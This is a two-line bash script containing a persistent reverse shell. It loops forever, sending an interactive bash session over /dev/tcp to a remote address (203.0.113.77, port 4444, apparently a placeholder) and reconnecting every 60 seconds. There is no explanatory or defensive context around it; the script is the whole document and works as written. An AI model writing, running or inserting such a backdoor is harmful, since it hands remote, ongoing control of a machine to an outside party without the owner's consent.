#!/bin/bash
while true; do bash -i >& /dev/tcp/203.0.113.77/4444 0>&1; sleep 60; done
